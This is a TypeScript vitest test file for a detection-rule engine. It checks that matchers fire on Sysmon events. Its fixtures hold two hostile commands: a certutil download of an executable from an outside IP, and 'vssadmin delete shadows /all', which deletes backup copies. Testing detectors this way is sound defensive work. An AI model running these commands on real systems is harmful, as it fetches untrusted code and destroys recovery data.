import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { sigstreamMatchers, usePack, useRules } from '../../engine/testing/matchers.js';
import type { Pack } from '../../engine/testing/pack.js';
import { repoRoot } from '../helpers/rules.js';
import { fakePack } from './fake-pack.js';

expect.extend(sigstreamMatchers);

const sysmon = { EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'WS1' };
const certutil = { ...sysmon, Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -split -f http://198.51.100.23/a.exe a.exe' };

describe('vitest matchers on the bundled pack', () => {
  let pack: Pack;
  beforeAll(async () => {
    pack = await useRules([path.join(repoRoot, 'rules')]);
  });

  it('toTrigger / not.toTrigger by title or id', () => {
    usePack(pack);
    expect(certutil).toTrigger('Certutil Used to Download a File');
    const id = pack.rules.find((r) => r.title === 'Certutil Used to Download a File')!.id!;
    expect([certutil]).toTrigger(id);
    expect({ ...certutil, CommandLine: 'certutil -dump root.cer' }).not.toTrigger('Certutil Used to Download a File');
  });

  it('toTriggerTimes counts one rule, or every rule', () => {
    usePack(pack);
    const vss = { ...sysmon, Image: 'C:\\Windows\\System32\\vssadmin.exe', CommandLine: 'vssadmin delete shadows /all' };
    expect([vss, vss, { ...sysmon, Image: 'C:\\Windows\\notepad.exe' }]).toTriggerTimes(2, 'Shadow Copies or Backup Catalog Deleted');
    expect([vss]).toTriggerTimes(1);
  });

  it('toTagTechnique sees the ATT&CK enrichment of real hits', () => {
    usePack(pack);
    expect(certutil).toTagTechnique('T1105');
    expect(certutil).not.toTagTechnique('T1059.001');
  });

  it('a failing matcher says what the events did hit', () => {
    usePack(pack);
    expect(() => expect(certutil).toTrigger('Mshta Running Remote or Inline Script')).toThrow(/hits were:\n {2}Certutil Used to Download a File/);
    expect(() => expect(certutil).not.toTrigger('Certutil Used to Download a File')).toThrow(/not to trigger/);
  });

  it.each([
    ['toTrigger', () => expect(certutil).toTrigger('Certutil Used to Downlaod a File')],
    ['not.toTrigger', () => expect(certutil).not.toTrigger('Certutil Used to Downlaod a File')],
    ['toTriggerTimes', () => expect(certutil).toTriggerTimes(0, 'Certutil Used to Downlaod a File')],
  ])('issue 13 foot-gun: %s naming a rule not in the pack fails with "no such rule"', (_name, assertion) => {
    usePack(pack);
    expect(assertion).toThrow(/no such rule: 'Certutil Used to Downlaod a File'/);
  });
});

describe('useRules', () => {
  it('issue 13 foot-gun: a missing path throws', async () => {
    await expect(useRules(['/nonexistent'])).rejects.toThrow(/no such rules path: \/nonexistent/);
  });
});

describe('toTagTechnique', () => {
  it('passes when some hit carries the technique, and names what the hits carried when not', () => {
    usePack(fakePack([{ title: 'Download', path: 'x.yml', contains: 'http', techniques: ['T1105'] }]));
    expect({ CommandLine: 'get http://x' }).toTagTechnique('t1105');
    expect({ CommandLine: 'get http://x' }).not.toTagTechnique('T1059.001');
    expect(() => expect({ CommandLine: 'get http://x' }).toTagTechnique('T1059.001')).toThrow(/T1105/);
  });
});
